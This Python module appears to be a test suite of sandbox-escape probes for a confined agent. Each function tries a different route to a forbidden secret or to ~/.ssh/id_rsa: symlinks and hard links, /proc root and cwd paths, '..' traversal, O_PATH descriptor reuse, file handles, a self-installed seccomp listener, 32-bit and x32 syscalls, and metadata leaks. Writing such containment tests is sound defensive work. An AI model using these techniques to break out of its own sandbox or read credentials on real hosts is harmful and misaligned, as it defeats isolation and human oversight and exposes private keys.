"""Attacks that read what is forbidden: by path, by ways that hide the path, by descriptors, by metadata."""
import ctypes
import mmap
import os
import select
import signal
import struct
import threading

from core import Blocked, NotApplicable, probe, read, read_fd, secret, write
from syscalls import AT_EMPTY_PATH, AT_FDCWD, AT_SYMLINK_FOLLOW, PR_SET_NO_NEW_PRIVS, Compat, Uring, libc, prctl, sc

RESOLVE_IN_ROOT = 0x10


def parts(path):
    """Returns the components of an absolute path."""
    return path.strip("/").split("/")


def from_root(path):
    """Returns the path as the way down from the current directory's root, by `..` only."""
    return "../" * (len(parts(os.getcwd())) + 2) + path.lstrip("/")


# By path.

@probe("read", secret("id_rsa"))
def fs_read_secret(x):
    """read ~/.ssh/id_rsa by path"""
    return read(x.H + "/.ssh/id_rsa")


@probe("read", secret("secret"))
def fs_read_symlink(x):
    """through a symbolic link made in the work directory"""
    os.symlink(x.F + "/secret", x.own + "/link")
    return read(x.own + "/link")


@probe("read", secret("secret"))
def fs_read_hardlink(x):
    """hard-link the file into the work directory and read it there"""
    os.link(x.F + "/secret", x.own + "/hard")
    return read(x.own + "/hard")


@probe("read", secret("secret"))
def fs_read_proc_self_root(x):
    """through /proc/self/root"""
    return read("/proc/self/root" + x.F + "/secret")


@probe("read", secret("secret"))
def fs_read_proc_victim_root(x):
    """through /proc/PID/root of a process outside"""
    return read("/proc/%d/root%s/secret" % (x.victim, x.F))


@probe("read")
def fs_list_forbidden(x):
    """list a forbidden directory"""
    names = os.listdir(x.F)
    if "secret" not in names:
        raise Blocked("listing empty or replaced: %s" % names[:4])
    return "%d entries" % len(names)


@probe("read", lambda host, evidence: str(os.stat(host.F + "/secret").st_ino) == evidence)
def fs_stat_forbidden(x):
    """stat a forbidden file"""
    return str(os.stat(x.F + "/secret").st_ino)


@probe("read", secret("secret"))
def fd_inherited_read(x):
    """through a descriptor of the file that the launcher left open"""
    return os.pread(77, 4096, 0).decode("latin1")


@probe("read", secret("secret"))
def fs_read_io_uring(x):
    """open and read by io_uring only"""
    ring = Uring()
    path = ctypes.create_string_buffer((x.F + "/secret").encode())
    fd = ring.op(ring.OPENAT, fd=AT_FDCWD, addr=ctypes.addressof(path), flags=os.O_RDONLY)
    data = ctypes.create_string_buffer(256)
    ring.op(ring.READ, fd=fd, addr=ctypes.addressof(data), length=256)
    return data.value.decode("latin1")


# By ways of resolving that a check of the text gets wrong.

@probe("resolve", secret("secret"))
def res_link_to_proc_root(x):
    """a symbolic link in the work directory to /proc/self/root, then down to the file"""
    os.symlink("/proc/self/root", x.own + "/root")
    return read(x.own + "/root" + x.F + "/secret")


@probe("resolve", secret("secret"))
def res_proc_self_cwd(x):
    """/proc/self/cwd, with / as working directory"""
    os.chdir("/")
    return read("/proc/self/cwd" + x.F + "/secret")


@probe("resolve", secret("secret"))
def res_proc_thread_root(x):
    """/proc/thread-self/root"""
    return read("/proc/thread-self/root" + x.F + "/secret")


@probe("resolve", secret("secret"))
def res_proc_by_fd(x):
    """self/root below a descriptor of /proc"""
    fd = os.open("/proc", os.O_PATH | os.O_DIRECTORY)
    return read_fd(os.open("self/root" + x.F + "/secret", os.O_RDONLY, dir_fd=fd))


@probe("resolve", secret("secret"))
def res_proc_by_cwd(x):
    """self/root relative to /proc as working directory"""
    os.chdir("/proc")
    return read("self/root" + x.F + "/secret")


@probe("resolve", secret("secret"))
def res_proc_child_root(x):
    """/proc/PID/task/TID/root of an own child"""
    child = os.fork()
    if child == 0:
        signal.alarm(20)
        signal.pause()
        os._exit(0)
    try:
        return read("/proc/%d/task/%d/root%s/secret" % (child, child, x.F))
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)


@probe("resolve", secret("secret"))
def res_proc_parent_cwd(x):
    """/proc/PPID/cwd of the own parent, then up and down"""
    return read("/proc/%d/cwd/%s%s/secret" % (os.getppid(), "../" * 20, x.F))


@probe("resolve", secret("secret"))
def res_proc_victim_cwd(x):
    """/proc/PID/cwd of a process outside"""
    return read("/proc/%d/cwd/secret" % x.victim)


@probe("resolve", secret("secret"))
def res_dotdot(x):
    """up by .. from the work directory and down"""
    os.chdir(x.own)
    return read(from_root(x.F + "/secret"))


@probe("resolve", secret("secret"))
def res_dotdot_inside(x):
    """a path that begins with the work directory and leaves it by .. later"""
    return read(x.own + "/" + "../" * len(parts(x.own)) + x.F + "/secret")


@probe("resolve", secret("secret"))
def res_dotdot_by_fd(x):
    """open .. from descriptor to descriptor up to the root, then each component down"""
    fd = os.open(x.own, os.O_PATH | os.O_DIRECTORY)
    for name in [".."] * len(parts(x.own)) + parts(x.F):
        fd = os.open(name, os.O_PATH | os.O_DIRECTORY, dir_fd=fd)
    return read_fd(os.open("secret", os.O_RDONLY, dir_fd=fd))


@probe("resolve", secret("secret"))
def res_chdir(x):
    """chdir into the forbidden directory, then a relative open"""
    os.chdir(x.F)
    return read("secret")


@probe("resolve", secret("secret"))
def res_fchdir(x):
    """fchdir to an O_PATH descriptor of the forbidden directory, then a relative open"""
    os.fchdir(os.open(x.F, os.O_PATH))
    return read("secret")


@probe("resolve", secret("secret"))
def res_link_chain(x):
    """a chain of twelve relative symbolic links"""
    os.symlink(x.F + "/secret", x.own + "/l0")
    for number in range(12):
        os.symlink("./l%d" % number, x.own + "/l%d" % (number + 1))
    return read(x.own + "/l12")


@probe("resolve", secret("secret"))
def res_link_folder(x):
    """a symbolic link to the forbidden directory in the middle of the path"""
    os.symlink(x.F, x.own + "/folder")
    return read(x.own + "/folder/secret")


@probe("resolve", secret("secret"))
def res_link_then_dotdot(x):
    """LINK/../secret, where .. is the parent of what the link names, not of the link"""
    os.symlink(x.F + "/v_through", x.own + "/link")
    return read(x.own + "/link/../secret")


@probe("resolve", secret("secret"))
def res_relative_link(x):
    """a symbolic link whose text climbs out of the work directory by .. only"""
    os.symlink("../" * len(parts(x.own)) + x.F.lstrip("/") + "/secret", x.own + "/link")
    return read(x.own + "/link")


@probe("resolve", secret("secret"))
def res_openat2_in_root(x):
    """openat2 with RESOLVE_IN_ROOT below a descriptor of the root"""
    fd = os.open("/", os.O_PATH)
    how = struct.pack("<QQQ", os.O_RDONLY, 0, RESOLVE_IN_ROOT)
    return read_fd(sc("openat2", fd, (x.F + "/secret").encode(), how, len(how)))


@probe("resolve", secret("secret"))
def res_spelling(x):
    """the path with doubled slashes, dots and a detour"""
    return read("//" + "//./".join(parts(x.F)) + "/./../" + parts(x.F)[-1] + "//secret")


@probe("resolve", secret("secret"))
def res_long_path(x):
    """a path of nearly 4,096 bytes that begins in the work directory"""
    tail = "/" + "../" * len(parts(x.own)) + x.F.lstrip("/") + "/secret"
    return read(x.own + "/." * ((4090 - len(x.own) - len(tail)) // 2) + tail)


@probe("resolve", secret("secret"))
def res_page_border(x):
    """a path in memory whose harmless beginning ends with the page and whose rest is on the next one"""
    memory = mmap.mmap(-1, 3 * 4096)
    start = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    border = start + 4096
    tail = ("/" + "../" * len(parts(x.own)) + x.F.lstrip("/") + "/secret\0").encode()
    ctypes.memmove(border - len(x.own), x.own.encode(), len(x.own))
    ctypes.memmove(border, tail, len(tail))
    return read_fd(sc(257, AT_FDCWD, border - len(x.own), os.O_RDONLY, 0))


@probe("resolve", secret("secret"))
def res_old_open(x):
    """the system call open, not openat, with a relative path"""
    os.chdir(x.own)
    return read_fd(sc(2, from_root(x.F + "/secret").encode(), os.O_RDONLY, 0))


@probe("resolve", secret("secret"))
def res_bytes_name(x):
    """a symbolic link whose name is not UTF-8"""
    path = x.own.encode() + b"/\xff\xfe"
    os.symlink((x.F + "/secret").encode(), path)
    return read(path)


@probe("resolve", secret("sibling"))
def res_sibling(x):
    """a directory beside the work directory whose name begins with that of the work directory"""
    return read(x.sibling + "/secret")


@probe("resolve", lambda host, evidence: host.token in read(host.sibling + "/file"))
def res_sibling_write(x):
    """create a file there"""
    write(x.sibling + "/file", x.token)


@probe("resolve", secret("sibling"))
def res_parent_dirfd(x):
    """openat of `..` and the sibling's name below a descriptor of the work directory"""
    fd = os.open(x.W, os.O_PATH)
    return read_fd(os.open("../%s/secret" % os.path.basename(x.sibling), os.O_RDONLY, dir_fd=fd))


# By descriptors.

@probe("fd", secret("secret"))
def fd_inherited_folder(x):
    """openat below a descriptor of the forbidden directory that the launcher left open"""
    return read_fd(os.open("secret", os.O_RDONLY, dir_fd=79))


@probe("fd", secret("secret"))
def fd_inherited_folder_proc(x):
    """the same through /proc/self/fd"""
    return read("/proc/self/fd/79/secret")


@probe("fd", secret("secret"))
def fd_opath_reopen(x):
    """an O_PATH descriptor of the file, opened again through /proc/self/fd"""
    return read("/proc/self/fd/%d" % os.open(x.F + "/secret", os.O_PATH))


@probe("fd", secret("secret"))
def fd_opath_dev_fd(x):
    """the same through /dev/fd"""
    return read("/dev/fd/%d" % os.open(x.F + "/secret", os.O_PATH))


@probe("fd", secret("secret"))
def fd_opath_child(x):
    """the same through /proc/PID/fd of the own parent, by a child"""
    fd = os.open(x.F + "/secret", os.O_PATH)
    receive, send = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(send, read("/proc/%d/fd/%d" % (os.getppid(), fd)).encode())
        finally:
            os._exit(0)
    os.close(send)
    os.waitpid(child, 0)
    return read_fd(receive)


@probe("fd", secret("secret"))
def fd_opath_openat2(x):
    """openat2 below an O_PATH descriptor of the forbidden directory"""
    how = struct.pack("<QQQ", os.O_RDONLY, 0, 0)
    return read_fd(sc("openat2", os.open(x.F, os.O_PATH), b"secret", how, len(how)))


@probe("fd", secret("secret"))
def fd_opath_link_empty(x):
    """linkat with AT_EMPTY_PATH from an O_PATH descriptor into the work directory"""
    fd = os.open(x.F + "/secret", os.O_PATH)
    sc("linkat", fd, b"", AT_FDCWD, (x.own + "/hard").encode(), AT_EMPTY_PATH)
    return read(x.own + "/hard")


@probe("fd", secret("secret"))
def fd_opath_link_proc(x):
    """linkat from /proc/self/fd into the work directory"""
    fd = os.open(x.F + "/secret", os.O_PATH)
    sc("linkat", AT_FDCWD, b"/proc/self/fd/%d" % fd, AT_FDCWD, (x.own + "/hard").encode(), AT_SYMLINK_FOLLOW)
    return read(x.own + "/hard")


@probe("fd")
def fd_opath_list(x):
    """list the forbidden directory through /proc/self/fd of an O_PATH descriptor"""
    if "secret" not in os.listdir("/proc/self/fd/%d" % os.open(x.F, os.O_PATH)):
        raise Blocked("listing empty or replaced")


@probe("fd", secret("secret"), root=True)
def fd_by_handle(x):
    """name_to_handle_at and open_by_handle_at, which need no path"""
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 136)
    number = ctypes.c_int()
    sc("name_to_handle_at", AT_FDCWD, (x.F + "/secret").encode(), handle, ctypes.byref(number), 0)
    fd = os.open(x.W, os.O_RDONLY | os.O_DIRECTORY)
    return read_fd(sc("open_by_handle_at", fd, handle, os.O_RDONLY))


@probe("fd", secret("secret"))
def fd_own_listener(x):
    """a seccomp listener of the agent's own, which lets its thread's open continue"""
    found, ready, ring = [], threading.Event(), []

    def work():
        try:
            prctl(PR_SET_NO_NEW_PRIVS, 1)
            code = ((0x20, 0, 0, 0), (0x15, 0, 1, 257), (6, 0, 0, 0x7fc00000), (6, 0, 0, 0x7fff0000))
            text = ctypes.create_string_buffer(b"".join(struct.pack("<HBBI", *step) for step in code))
            program = struct.pack("<HxxxxxxQ", len(code), ctypes.addressof(text))
            ring.append(sc("seccomp", 1, 8, program))
            ready.set()
            found.append(read_fd(sc(257, AT_FDCWD, (x.F + "/secret").encode(), os.O_RDONLY, 0)))
        except OSError as error:
            found.append(error)
            ready.set()
    thread = threading.Thread(target=work, daemon=True)
    thread.start()
    ready.wait(5)
    if ring:
        request = ctypes.create_string_buffer(80)
        if libc.ioctl(ring[0], ctypes.c_ulong(0xc0502100), request) == 0:
            answer = request.raw[:8] + struct.pack("<qiI", 0, 0, 1)
            libc.ioctl(ring[0], ctypes.c_ulong(0xc0182101), ctypes.create_string_buffer(answer, 24))
    thread.join(3)
    if not found:
        raise Blocked("the listener got nothing")
    if isinstance(found[0], OSError):
        raise found[0]
    return found[0]


# The 32-bit entry.

@probe("compat", secret("secret"))
def compat_open(x):
    """open and read by int 0x80, whose numbers a 64-bit filter takes for others"""
    entry = Compat()
    fd = entry.call(entry.OPEN, entry.put((x.F + "/secret").encode()), os.O_RDONLY, 0)
    count = entry.call(entry.READ, fd, entry.data, 256)
    return ctypes.string_at(entry.data, count).decode("latin1")


@probe("compat", secret("secret"))
def compat_x32_open(x):
    """open by the x32 number, which has bit 30 set"""
    try:
        return read_fd(sc(0x40000000 | 2, (x.F + "/secret").encode(), os.O_RDONLY, 0))
    except OSError as error:
        if error.errno == 38:
            raise NotApplicable("the kernel has no x32")
        raise


# What metadata tells.

@probe("leak", secret("link"))
def leak_readlink(x):
    """read the text of a symbolic link in the forbidden directory"""
    return os.readlink(x.F + "/v_link")


@probe("leak", secret("xattr"))
def leak_getxattr(x):
    """read an extended attribute of a forbidden file"""
    return os.getxattr(x.F + "/v_xattr_read", "user.secret").decode("latin1")


@probe("leak", secret("name"))
def leak_inotify(x):
    """watch a forbidden directory by inotify and learn the names of files that others make in it"""
    fd = sc("inotify_init1", os.O_NONBLOCK)
    sc("inotify_add_watch", fd, (x.F + "/v_watched").encode(), 0x100)
    return events(fd)


@probe("leak", secret("name"))
def leak_fanotify(x):
    """the same by fanotify, which needs no privilege when it reports by handle"""
    fd = sc("fanotify_init", 0xC00 | 0x2, 0)  # FAN_REPORT_DFID_NAME, FAN_NONBLOCK
    sc("fanotify_mark", fd, 1, 0x100, AT_FDCWD, (x.F + "/v_watched").encode())
    return events(fd)


def events(fd):
    """Returns what the first event of a queue has."""
    if not select.select([fd], [], [], 3)[0]:
        raise Blocked("no event")
    return os.read(fd, 4096).decode("latin1")


@probe("leak", lambda host, evidence: str(host.tcp) in evidence.split())
def leak_proc_net(x):
    """see in /proc/net/tcp on which ports processes outside listen"""
    with open("/proc/net/tcp") as file:
        rows = [line.split() for line in file.readlines()[1:]]
    return " ".join(str(int(row[1].split(":")[1], 16)) for row in rows if row[3] == "0A")


@probe("leak")
def leak_kernel_log(x):
    """ask for the size of the kernel's log by syslog(2)"""
    try:
        sc("syslog", 10, 0, 0)
    except OSError:
        try:
            closed = os.geteuid() != 0 and read("/proc/sys/kernel/dmesg_restrict").strip() == "1"
        except OSError:
            closed = False
        if closed:
            raise NotApplicable("this host keeps the log from users")
        raise
